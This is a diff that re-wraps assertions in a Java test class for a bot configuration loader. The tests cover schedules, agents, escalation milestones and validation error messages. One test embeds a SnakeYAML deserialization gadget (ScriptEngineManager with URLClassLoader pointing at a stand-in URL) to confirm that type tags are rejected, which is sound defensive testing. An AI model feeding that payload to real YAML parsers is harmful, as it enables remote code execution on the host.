@@ -25,8 +25,15 @@ class ConfigLoaderTest {
         BotConfig config = Fixtures.shippedConfig();
 
         assertEquals(ZoneId.of("America/New_York"), config.phase().zone());
-        assertEquals(List.of("python-ml-fintech-reviewer", "software-architect", "ml-engineer", "qa-engineer",
-                "senior-system-developer", "devops-engineer"), config.agents().stream().map(Agent::id).toList());
+        assertEquals(
+                List.of(
+                        "python-ml-fintech-reviewer",
+                        "software-architect",
+                        "ml-engineer",
+                        "qa-engineer",
+                        "senior-system-developer",
+                        "devops-engineer"),
+                config.agents().stream().map(Agent::id).toList());
         assertEquals("senior-system-developer", config.lead().id());
         assertEquals("Security", config.teams().get(0).name());
         assertTrue(config.isSecurityTeam("python-ml-fintech-reviewer"));
@@ -36,12 +43,16 @@ class ConfigLoaderTest {
         assertTrue(config.channel("security").isPrivate());
         assertEquals(LocalTime.of(9, 0), config.standup().time());
         assertEquals(Duration.ofMinutes(15), config.standup().window());
-        assertEquals(List.of(DayOfWeek.MONDAY, DayOfWeek.TUESDAY, DayOfWeek.WEDNESDAY, DayOfWeek.THURSDAY,
-                DayOfWeek.FRIDAY), config.standup().days());
+        assertEquals(
+                List.of(DayOfWeek.MONDAY, DayOfWeek.TUESDAY, DayOfWeek.WEDNESDAY, DayOfWeek.THURSDAY, DayOfWeek.FRIDAY),
+                config.standup().days());
         assertEquals(DayOfWeek.FRIDAY, config.review().day());
         assertEquals(LocalTime.of(14, 0), config.review().time());
-        assertEquals(List.of(Duration.ofMinutes(30), Duration.ofMinutes(60), Duration.ofHours(2)),
-                config.escalation().milestones().stream().map(EscalationPolicy.Milestone::due).toList());
+        assertEquals(
+                List.of(Duration.ofMinutes(30), Duration.ofMinutes(60), Duration.ofHours(2)),
+                config.escalation().milestones().stream()
+                        .map(EscalationPolicy.Milestone::due)
+                        .toList());
         assertEquals(7, config.plan().tasks().size());
         assertEquals(4, config.plan().gates().size());
         assertEquals(List.of("all-other-work"), config.plan().gates().get(0).blocks());
@@ -50,8 +61,10 @@ class ConfigLoaderTest {
     @Test
     void anUnknownKeyIsRejectedWithItsPathAndTheKeysExpected() {
         ConfigException e = reject(shipped().replace("  window: PT15M", "  window: PT15M\n  windwo: PT20M"));
-        assertEquals("test.yml: standup.windwo: unknown key 'windwo' (expected one of: channel, days, holidays, "
-                + "remind_at, security_update, thread, time, window)", e.getMessage());
+        assertEquals(
+                "test.yml: standup.windwo: unknown key 'windwo' (expected one of: channel, days, holidays, "
+                        + "remind_at, security_update, thread, time, window)",
+                e.getMessage());
     }
 
     @Test
@@ -63,7 +76,8 @@ class ConfigLoaderTest {
     @Test
     void aBadZoneIsRejected() {
         ConfigException e = reject(shipped().replace("zone: America/New_York", "zone: America/Gotham"));
-        assertEquals("test.yml: phase.zone: expected a time zone id like America/New_York, got 'America/Gotham'",
+        assertEquals(
+                "test.yml: phase.zone: expected a time zone id like America/New_York, got 'America/Gotham'",
                 e.getMessage());
     }
 
@@ -81,15 +95,19 @@ class ConfigLoaderTest {
 
     @Test
     void aChannelRoleReferencedButNotDefinedIsRejected() {
-        ConfigException e = reject(shipped().replace("standup:\n  channel: coordination", "standup:\n  channel: general"));
-        assertTrue(e.getMessage().startsWith("test.yml: standup.channel: channel role 'general' is not defined under channels"),
+        ConfigException e =
+                reject(shipped().replace("standup:\n  channel: coordination", "standup:\n  channel: general"));
+        assertTrue(
+                e.getMessage()
+                        .startsWith("test.yml: standup.channel: channel role 'general' is not defined under channels"),
                 e.getMessage());
     }
 
     @Test
     void anAgentOfAnUndefinedTeamIsRejected() {
         ConfigException e = reject(shipped().replace("team: DevOps", "team: Platform"));
-        assertTrue(e.getMessage().startsWith("test.yml: agents[5].team: team 'Platform' is not defined under teams"),
+        assertTrue(
+                e.getMessage().startsWith("test.yml: agents[5].team: team 'Platform' is not defined under teams"),
                 e.getMessage());
     }
 
@@ -101,8 +119,11 @@ class ConfigLoaderTest {
 
     @Test
     void yamlTypeTagsAreRejectedBeforeAnythingIsBuilt() {
-        ConfigException e = reject(shipped().replace("docs: \"GitHub discussions\"",
-                "docs: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]"));
+        ConfigException e = reject(
+                shipped()
+                        .replace(
+                                "docs: \"GitHub discussions\"",
+                                "docs: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]"));
         assertTrue(e.getMessage().contains("type tag"), e.getMessage());
         assertTrue(e.getMessage().contains("is not allowed"), e.getMessage());
     }
@@ -116,14 +137,17 @@ class ConfigLoaderTest {
     @Test
     void milestonesWhoseOffsetsDoNotIncreaseAreRejected() {
         ConfigException e = reject(shipped().replace("due: PT60M", "due: PT20M"));
-        assertEquals("test.yml: escalation.milestones[1].due: expected a due offset later than the milestone "
-                + "before (PT30M), got PT20M", e.getMessage());
+        assertEquals(
+                "test.yml: escalation.milestones[1].due: expected a due offset later than the milestone "
+                        + "before (PT30M), got PT20M",
+                e.getMessage());
     }
 
     @Test
     void aMilestoneWithAnUnknownActIsRejected() {
         ConfigException e = reject(shipped().replace("act: assessment", "act: prayer"));
-        assertTrue(e.getMessage().startsWith("test.yml: escalation.milestones[0].act: 'prayer' is not allowed"),
+        assertTrue(
+                e.getMessage().startsWith("test.yml: escalation.milestones[0].act: 'prayer' is not allowed"),
                 e.getMessage());
     }
 
@@ -155,7 +179,8 @@ class ConfigLoaderTest {
 
     @Test
     void publicIsTheOtherSecurityUpdateSetting() {
-        BotConfig config = loader.parse("test.yml", shipped().replace("security_update: private", "security_update: public"));
+        BotConfig config =
+                loader.parse("test.yml", shipped().replace("security_update: private", "security_update: public"));
         assertFalse(config.standup().keepsSecurityUpdatePrivate());
     }
 
@@ -164,8 +189,10 @@ class ConfigLoaderTest {
         for (String bad : List.of("secret", "Private", "true", "\"\"")) {
             ConfigException e = reject(shipped().replace("security_update: private", "security_update: " + bad));
             String shown = bad.equals("\"\"") ? "" : bad;
-            assertEquals("test.yml: standup.security_update: '" + shown + "' is not allowed (expected one of: private, "
-                    + "public)", e.getMessage());
+            assertEquals(
+                    "test.yml: standup.security_update: '" + shown + "' is not allowed (expected one of: private, "
+                            + "public)",
+                    e.getMessage());
         }
         ConfigException e = reject(shipped().replace("security_update: private", "security_update: [private]"));
         assertTrue(e.getMessage().startsWith("test.yml: standup.security_update: "), e.getMessage());
@@ -183,7 +210,8 @@ class ConfigLoaderTest {
         Path file = dir.resolve("bot-config.yml");
         Files.writeString(file, shipped().replace("window: PT15M", "window: fifteen"));
         ConfigException e = assertThrows(ConfigException.class, () -> loader.load(file));
-        assertEquals(file + ": standup.window: expected an ISO-8601 duration like PT15M, got 'fifteen'", e.getMessage());
+        assertEquals(
+                file + ": standup.window: expected an ISO-8601 duration like PT15M, got 'fifteen'", e.getMessage());
     }
 
     @Test
